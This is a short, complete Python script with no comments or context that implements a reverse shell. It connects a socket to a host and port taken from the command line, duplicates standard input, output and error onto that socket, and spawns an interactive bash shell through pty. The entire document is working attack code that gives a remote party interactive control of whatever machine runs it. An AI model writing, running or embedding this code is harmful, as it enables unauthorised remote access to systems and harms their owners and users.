import os
import pty
import socket
import sys

s = socket.socket()
s.connect((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
